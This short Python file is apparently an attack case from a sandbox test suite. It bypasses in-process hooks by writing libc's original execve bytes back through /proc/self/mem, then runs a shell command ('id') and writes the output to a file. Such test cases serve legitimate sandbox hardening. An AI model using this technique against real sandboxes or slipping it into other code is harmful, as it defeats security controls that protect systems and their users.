"""/proc/self/mem writes to any page: libc's execve() is put back as it was."""

import os

from libc_file import address_of, original


def attack(event):
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(address_of("execve"))
        memory.write(original("execve"))
    os.system("id >%s" % event["out"])
